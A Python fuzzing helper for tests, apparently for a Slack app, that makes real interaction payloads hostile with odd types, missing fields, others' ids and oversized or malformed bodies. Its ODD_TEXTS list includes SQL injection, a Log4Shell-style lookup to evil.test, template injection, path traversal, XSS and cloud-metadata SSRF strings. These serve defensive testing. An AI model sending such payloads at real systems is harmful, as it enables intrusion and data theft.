"""Real payloads made hostile, by a seeded chance: wrong types, missing parts, others' ids, huge and odd values."""

import json
import random
from collections.abc import Callable, Iterator, Sequence
from typing import Any

from tests.handlers.tenants import ADMIN, MANAGER, NEWCOMER

Json = dict[str, Any]
Path = tuple[str | int, ...]

ODD_TEXTS: Sequence[str] = (
    "", " ", "\x00", "\x00abc", "\u0007\u001b[31m", "\ud800", "a\udfffb", "\u202etxt.exe", "\ufeff", "\ufffe",
    "<!channel> <@U1> <https://evil.test|pay>", "*b* _i_ `c`", "'; DROP TABLE members; --", '" OR 1=1',
    "${jndi:ldap://evil.test}", "{{7*7}}", "%s%s%n", "../../etc/passwd", "<script>alert(1)</script>",
    "-1", "0", "NaN", "nan", "Infinity", "1e309", "0x10", "+1", " 1", "1_000", "1.5", "²", "٣", "\uff19",
    "9" * 400, "9" * 5_000, "99999999999999999999", "-99999999999999999999",
    "2026-02-30", "0000-00-00", "9999-12-31", "0001-01-01", "25:61", "24:00", "12:00:00+25:00",
    "null", "true", "{}", "[]", "undefined", "\n", "\n\n", "id\n{", "id\n[]", "id\nnull", 'id\n{"page": {"a": []}}',
    'id\n{"page": "-1", "shows": "x"}', "a/b/c", "/", "//", "b/", ":", "a:b:c", "ours/", "ours/-1", "ours/²",
    "file:///etc/passwd", "http://127.0.0.1:22/", "https://[::1", "http://169.254.169.254/latest", "mailto:a@b",
    "a" * 3_001, "é" * 10_000, "a\n" * 5_000, "&" * 4_000, "👩‍👩‍👧‍👦" * 500, "a@" * 2_000, "(" * 3_000,
)  # fmt: skip
ODD_VALUES: Sequence[Any] = (
    None, True, False, 0, -1, 1.5, 1e308, -(2**63), 2**64, 10**30, [], {}, [[]], [None], {"id": None}, {"id": {}},
    {"value": None}, [{}], "x", ["x"], {"": ""}, {"id": "U1", "team_id": "T2"},
)  # fmt: skip
_STAYS: frozenset[str] = frozenset({"team", "team_id", "app_installed_team_id", "authorizations", "enterprise"})
_IDS = frozenset({"value", "private_metadata", "block_id", "text", "callback_id", "action_id", "id", "user_id"})

Change = Callable[[random.Random, Json, Sequence[str]], None]


def make_hostile(chance: random.Random, payload: Json, *, ids: Sequence[str]) -> None:
    """Change one to three things in a payload. The workspace it comes from stays: Slack says that itself."""
    for _ in range(chance.choice((1, 1, 1, 2, 3))):
        chance.choice(_CHANGES)(chance, payload, ids)


def hostile_bodies(chance: random.Random, body: bytes, content_type: str) -> tuple[bytes, str]:
    """Return a body that is damaged below what its format is."""
    cut = chance.randrange(len(body) + 1)
    return chance.choice(
        (
            (body[:cut], content_type),
            (body[:cut] + b"\xff\xfe\x00" + body[cut:], content_type),
            (body, chance.choice(_CONTENT_TYPES)),
            (b"payload=" + body, "application/x-www-form-urlencoded"),
            (body + b"&payload=%7B%7D", content_type),
            (b"[" * 100_000, "application/json"),
            (b'{"type":' * 50_000, "application/json"),
            (b'{"type":"block_actions","user":{"id":NaN}}', "application/json"),
            (b'{"type":' + b"9" * 5_000 + b"}", "application/json"),
            (b"\xef\xbb\xbf" + body, content_type),
            (b"", content_type),
        )
    )


_CONTENT_TYPES = (
    "application/json",
    "application/json; charset=utf-16",
    "application/json; charset=none",
    "application/x-www-form-urlencoded",
    "APPLICATION/JSON",
    "multipart/form-data; boundary=x",
    "text/plain",
    "/",
    ";;;",
)


def _paths(part: Any, but: frozenset[str], at: Path = ()) -> Iterator[Path]:
    """Yield the way to each part, those below what is named in `but` left out."""
    for name, inner in part.items() if isinstance(part, dict) else enumerate(part) if isinstance(part, list) else ():
        if name not in but:
            yield (*at, name)
            if isinstance(inner, dict | list):
                yield from _paths(inner, but, (*at, name))


def _holder(whole: Any, path: Path) -> Any:
    for step in path[:-1]:
        whole = whole[step]
    return whole


def _chosen(chance: random.Random, payload: Json) -> Path:
    """Choose a part: as often one of those that say what is meant as any other."""
    if chance.random() >= _OFTEN:
        return chance.choice(list(_paths(payload, _STAYS)))
    paths = list(_paths(payload, _STAYS | {"blocks"}))
    return chance.choice([path for path in paths if path[0] in _MEANT] or paths)


_MEANT = frozenset(
    {"actions", "view", "user", "text", "callback_id", "event", "message", "channel", "user_id", "command"}
)
_OFTEN = 0.75


def _other_type(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    path = _chosen(chance, payload)
    _holder(payload, path)[path[-1]] = json.loads(json.dumps(chance.choice(ODD_VALUES)))


def _gone(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    path = _chosen(chance, payload)
    if isinstance(holder := _holder(payload, path), dict):
        del holder[path[-1]]


def _texts(payload: Json) -> list[Path]:
    return [path for path in _paths(payload, _STAYS | {"blocks"}) if isinstance(_holder(payload, path)[path[-1]], str)]


def _odd_text(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    texts = _texts(payload)
    if texts:
        path = chance.choice(texts)
        _holder(payload, path)[path[-1]] = chance.choice(ODD_TEXTS)


def _other_id(chance: random.Random, payload: Json, ids: Sequence[str]) -> None:
    """Put the id of anything, anybody or nothing where an id is: in a button, a menu, a modal's metadata."""
    texts = [path for path in _texts(payload) if path[-1] in _IDS and path[0] in _MEANT]
    if texts:
        path = chance.choice(texts)
        holder, one = _holder(payload, path), chance.choice(ids)
        before = holder[path[-1]]
        shapes = (one, f"{before.partition('/')[0]}/{one}", before + one, f"{one}\n{before.partition(chr(10))[2]}")
        holder[path[-1]] = chance.choice(shapes)


def _other_carried(chance: random.Random, payload: Json, ids: Sequence[str]) -> None:
    """Change one of the facts a modal comes back with."""
    view: Any = payload.get("view")
    subject, _, facts = str(view.get("private_metadata", "") if isinstance(view, dict) else "").partition("\n")
    try:
        told = json.loads(facts or subject)
        name = chance.choice(list(told))
    except (ValueError, TypeError, IndexError):
        return
    told[name] = chance.choice((*ODD_TEXTS, *ids, *ODD_VALUES))
    view["private_metadata"] = f"{subject}\n{json.dumps(told)}" if facts else json.dumps(told)


def _huge(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    texts = _texts(payload)
    if texts:
        path = chance.choice(texts)
        _holder(payload, path)[path[-1]] = chance.choice("aé\n& ") * chance.choice((5_000, 60_000, 1_000_000))


def _deep(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    path = _chosen(chance, payload)
    nest: Any = "x"
    for _n in range(chance.choice((5, 60, 200))):
        nest = [nest] if chance.random() < 0.5 else {"a": nest}
    _holder(payload, path)[path[-1]] = nest


def _doubled(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    path = _chosen(chance, payload)
    if isinstance(part := _holder(payload, path)[path[-1]], list):
        _holder(payload, path)[path[-1]] = chance.choice(([], part * 2, part[::-1], part * 120))


def _other_kind(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    payload["type"] = chance.choice(_KINDS)


def _emptied(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    view = payload.get("view")
    if isinstance(view, dict):
        chance.choice((lambda: view.pop("state", 0), lambda: view.update(blocks=[]), lambda: view.update(state={})))()


def _other_person(chance: random.Random, payload: Json, _: Sequence[str]) -> None:
    other = chance.choice((MANAGER, ADMIN, NEWCOMER, "UGONE", "UBOT", "U9", "", "USLACKBOT"))
    if "user_id" in payload:
        payload["user_id"] = other
    else:
        payload["user"] = {"id": other, "team_id": chance.choice(("T1", "T2", "T9", "", None))}


_KINDS = (
    "block_actions", "view_submission", "view_closed", "shortcut", "message_action", "block_suggestion", "x",
    "event_callback", "interactive_message", "dialog_submission", "workflow_step_edit", "url_verification",
    "app_rate_limited",
)  # fmt: skip
_CHANGES: Sequence[Change] = (
    _other_type, _other_type, _gone, _gone, _odd_text, _odd_text, _odd_text, _other_id, _other_id, _other_id,
    _other_carried, _other_carried, _deep, _doubled, _other_kind, _emptied, _other_person, _huge,
)  # fmt: skip
